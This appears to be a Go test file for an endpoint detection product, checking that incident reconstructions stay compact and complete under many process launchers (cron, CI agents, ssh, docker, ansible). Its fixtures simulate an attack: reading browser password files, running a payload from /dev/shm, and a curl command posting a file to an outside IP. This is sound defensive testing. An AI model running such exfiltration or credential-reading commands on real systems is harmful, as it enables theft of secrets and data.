package incident_test

import (
	"fmt"
	"testing"

	"github.com/yagura-edr/yagura/internal/detection"
	"github.com/yagura-edr/yagura/internal/event"
)

// runnersOf are ways to run many programs that nobody types: how they start, and under which name the programs stand.
var runnersOf = map[string]func(*tape) string{
	"python script": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("py", "login", 61, "/usr/bin/python3.11", "python3 collect.py")
		return "py"
	},
	"python of a pipe": func(t *tape) string {
		t.start("agent", "init", 60, "/home/ci/agent", "/home/ci/agent run")
		t.start("py", "agent", 61, "/usr/bin/python3.11", "python3 -")
		return "py"
	},
	"perl": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("pl", "login", 61, "/usr/bin/perl", "perl -w /home/u/check.pl")
		return "pl"
	},
	"node": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("npm", "login", 61, "/usr/bin/node", "npm run build")
		t.start("sh", "npm", 62, "/usr/bin/dash", "sh -c webpack")
		t.start("node", "sh", 63, "/usr/bin/node", "node /srv/app/node_modules/.bin/webpack")
		return "node"
	},
	"make -j typed at a terminal": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("make", "login", 61, "/usr/bin/make", "make -j8")
		return "make"
	},
	"ci agent with pipes": func(t *tape) string {
		t.start("listener", "init", 60, "/home/ci/bin/Runner.Listener", "/home/ci/bin/Runner.Listener run")
		t.start("worker", "listener", 61, "/home/ci/bin/Runner.Worker", "/home/ci/bin/Runner.Worker spawnclient 120 123")
		t.start("step", "worker", 62, "/usr/bin/bash", "/usr/bin/bash -e /home/ci/_work/_temp/9c2.sh")
		return "step"
	},
	"systemd timer": func(t *tape) string {
		t.start("unit", "init", 60, "/usr/bin/bash", "/bin/bash /usr/local/sbin/nightly")
		return "unit"
	},
	"systemd timer of /srv": func(t *tape) string {
		t.start("unit", "init", 60, "/usr/bin/bash", "/bin/bash /srv/jobs/nightly")
		return "unit"
	},
	"docker exec": func(t *tape) string {
		t.start("shim", "init", 60, "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby")
		t.start("sh", "shim", 61, "/usr/bin/dash", "sh -c /app/entry")
		t.start("entry", "sh", 62, "/usr/bin/bash", "bash /app/entry")
		return "entry"
	},
	"docker exec -i sh": func(t *tape) string {
		t.start("shim", "init", 60, "/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2 -namespace moby")
		t.start("sh", "shim", 61, "/usr/bin/dash", "sh")
		return "sh"
	},
	"tmux": func(t *tape) string {
		t.start("tmux", "init", 60, "/usr/bin/tmux", "tmux new -d")
		t.start("pane", "tmux", 61, "/usr/bin/bash", "-bash")
		t.procs["pane"].TTY = "/dev/pts/3"
		return "pane"
	},
	"screen": func(t *tape) string {
		t.start("screen", "init", 60, "/usr/bin/screen", "SCREEN -dmS x")
		t.start("pane", "screen", 61, "/usr/bin/bash", "/bin/bash")
		t.procs["pane"].TTY = "/dev/pts/3"
		t.start("loop", "pane", 62, "/usr/bin/bash", "bash /home/u/loop.sh")
		return "loop"
	},
	"bash -s by ssh": func(t *tape) string {
		t.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
		t.net(event.NetAccept, "sshd", "10.1.2.4:22", "10.1.2.9:50022")
		t.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: ops [priv]")
		t.start("fed", "session", 202, "/usr/bin/bash", "bash -s")
		return "fed"
	},
	"bash -s by ssh through a login shell": func(t *tape) string {
		t.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
		t.net(event.NetAccept, "sshd", "10.1.2.4:22", "10.1.2.9:50022")
		t.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: ops [priv]")
		t.start("c", "session", 202, "/usr/bin/bash", "bash -c bash -s -- all")
		t.start("fed", "c", 203, "/usr/bin/bash", "bash -s -- all")
		return "fed"
	},
	"xargs": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("ls", "login", 61, "/usr/bin/find", "find / -name x")
		t.start("xargs", "login", 62, "/usr/bin/xargs", "xargs -n1 stat")
		t.pipe("xargs", "ls")
		return "xargs"
	},
	"find -exec": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("find", "login", 62, "/usr/bin/find", "find /srv -exec stat {} ;")
		return "find"
	},
	"parallel": func(t *tape) string {
		t.start("login", "init", 60, "/usr/bin/bash", "-bash")
		t.procs["login"].TTY = "/dev/pts/0"
		t.start("parallel", "login", 62, "/usr/bin/perl", "perl /usr/bin/parallel stat")
		return "parallel"
	},
	"jenkins agent": func(t *tape) string {
		t.start("java", "init", 60, "/usr/lib/jvm/java-17/bin/java", "java -jar /var/lib/jenkins/agent.jar -url https://ci.example")
		t.connect("java", "198.51.100.3:443")
		t.start("nohup", "java", 61, "/usr/bin/nohup", "nohup sh -c ( while ...")
		t.start("step", "nohup", 62, "/usr/bin/dash", "sh -xe /var/lib/jenkins/workspace/a@tmp/durable-1/script.sh")
		return "step"
	},
	"jenkins agent itself": func(t *tape) string {
		t.start("java", "init", 60, "/home/jenkins/jdk/bin/java", "java -jar /home/jenkins/agent.jar")
		return "java"
	},
	"web server with helpers": func(t *tape) string {
		t.start("web", "init", 60, "/usr/bin/php-fpm8.2", "php-fpm: pool www")
		t.net(event.NetListen, "web", "127.0.0.1:9000", "0.0.0.0:0")
		return "web"
	},
	"web server in /srv with a worker": func(t *tape) string {
		t.start("master", "init", 60, "/srv/venv/bin/python3", "/srv/venv/bin/python3 /srv/venv/bin/gunicorn app:app")
		t.net(event.NetListen, "master", "127.0.0.1:9000", "0.0.0.0:0")
		t.start("web", "master", 61, "/srv/venv/bin/python3", "/srv/venv/bin/python3 /srv/venv/bin/gunicorn app:app")
		t.net(event.NetAccept, "web", "127.0.0.1:9000", "127.0.0.1:50022")
		return "web"
	},
	"cron": func(t *tape) string {
		t.running("cron", "init", 15, "/usr/sbin/cron", "/usr/sbin/cron -f")
		t.start("fork", "cron", 59, "/usr/sbin/cron", "/usr/sbin/CRON -f")
		t.start("job", "fork", 60, "/usr/bin/dash", "/bin/sh -c /home/u/bin/nightly")
		t.start("script", "job", 61, "/usr/bin/bash", "/bin/bash /home/u/bin/nightly")
		return "script"
	},
	"ansible by ssh with a terminal": func(t *tape) string {
		t.start("sshd", "init", 200, "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
		t.net(event.NetAccept, "sshd", "10.1.2.4:22", "10.1.2.9:50022")
		t.start("session", "sshd", 201, "/usr/sbin/sshd", "sshd: ops [priv]")
		t.start("sh", "session", 202, "/usr/bin/dash", "/bin/sh -c sudo -H -u root /bin/sh -c 'echo x; /usr/bin/python3 /home/ops/.ansible/tmp/x/AnsiballZ_shell.py'")
		t.start("sudo", "sh", 203, "/usr/bin/sudo", "sudo -H -u root /bin/sh -c echo")
		t.start("sh2", "sudo", 204, "/usr/bin/dash", "/bin/sh -c echo x; /usr/bin/python3 /home/ops/.ansible/tmp/x/AnsiballZ_shell.py")
		t.start("py", "sh2", 205, "/usr/bin/python3.11", "/usr/bin/python3 /home/ops/.ansible/tmp/x/AnsiballZ_shell.py")
		for _, n := range []string{"sh", "sudo", "sh2", "py"} {
			t.procs[n].TTY = "/dev/pts/7"
		}
		return "py"
	},
}

// What runs the programs beside one odd one, however it does it, makes no long story of it.
func TestOddActStaysSmallUnderEveryRunner(t *testing.T) {
	for name, begin := range runnersOf {
		for _, deep := range []bool{false, true} {
			tp := newTape(hostA)
			parent := begin(tp)
			odd := parent
			if deep { // each program in a shell of its own, as make and CI steps do
				for i := range 120 {
					sh := fmt.Sprint("sh", i)
					tp.start(sh, parent, uint64(5000+i), "/usr/bin/dash", "/bin/sh -c cc -o x; ld")
					tp.like(2, sh, uint64(7000+2*i), "/usr/bin/cc", "cc -o x")
				}
				tp.start("oddsh", parent, 899, "/usr/bin/dash", "/bin/sh -c cat x")
				odd = "oddsh"
			} else {
				tp.like(120, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
			}
			tp.start("odd", odd, 900, "/usr/bin/cat", "cat "+passwords)
			tp.detect(tp.reads("odd", passwords), "browser passwords read", detection.High, "T1555.003")
			tp.like(120, parent, 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
			s := tp.story()
			if n := processes(s); n > 20 {
				t.Errorf("%s (shells between: %v): %d processes are shown; want 20 at most", name, deep, n)
			}
			wantMembers(t, tp, s, []string{"odd"}, nil)
		}
	}
}

// And an attack inside keeps its parts.
func TestAttackUnderEveryRunnerIsWhole(t *testing.T) {
	for name, begin := range runnersOf {
		for _, mixed := range []bool{false, true} {
			tp := newTape(hostA)
			parent := begin(tp)
			tp.like(120, parent, 1000, "/usr/bin/stat", "stat -c %Y /srv/app")
			tp.download(parent, func() {
				if mixed {
					tp.like(60, parent, 3000, "/usr/bin/stat", "stat -c %Y /srv/app")
				}
			})
			tp.detect(tp.startFile("payload", parent, 903, "/dev/shm/k", "/dev/shm/k", "77"), "program run from memory", detection.High, "T1059.004")
			tp.start("sh", "payload", 904, "/usr/bin/dash", "sh -c id")
			tp.start("cat", "sh", 905, "/usr/bin/cat", "cat "+passwords)
			tp.detect(tp.reads("cat", passwords), "browser passwords read", detection.High, "T1555.003")
			tp.start("post", parent, 906, "/usr/bin/curl", "curl --data-binary @/tmp/o http://203.0.113.9/")
			tp.detect(tp.connect("post", "203.0.113.9:80"), "file sent", detection.Medium)
			tp.like(120, parent, 2000, "/usr/bin/stat", "stat -c %Y /srv/app")
			s := tp.story()
			wantMembers(t, tp, s, []string{"curl", "chmod", "payload", "sh", "cat", "post"}, nil)
			if n := processes(s); n > 20 {
				t.Errorf("%s (mixed %v): %d processes", name, mixed, n)
			}
			if t.Failed() {
				t.Fatal(name)
			}
		}
	}
}
